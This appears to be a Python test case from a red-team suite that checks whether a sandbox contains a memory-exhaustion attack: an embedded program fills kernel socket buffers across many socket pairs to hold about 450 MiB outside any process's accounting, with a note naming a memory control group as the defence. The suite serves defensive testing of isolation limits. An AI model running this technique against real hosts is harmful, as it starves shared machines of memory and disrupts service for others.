"""Fill the buffers of sockets that nobody reads: memory that is in no process."""

from dataclasses import replace

from red_team.moves import judge_words, program_moves
from red_team.scene import SMALL

AIM = "to starve the host of memory"
DEFENCE = "memory control group, else the watchdog counts what the sockets can hold"

PROGRAM = """
import socket, time
kept, sent = [], 0
while sent < 450 << 20:
    pair = socket.socketpair()
    kept.append(pair)
    for end in pair:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        end.setblocking(False)
        try:
            while True:
                sent += end.send(bytes(60_000))
        except BlockingIOError:
            pass
    time.sleep(0.002)
time.sleep(3)
print("done:", sent >> 20, "MiB held for 3 s in", len(kept), "pairs of sockets")
"""

attempt, control = program_moves(PROGRAM, judge_words, limits=replace(SMALL, open_files=4096))
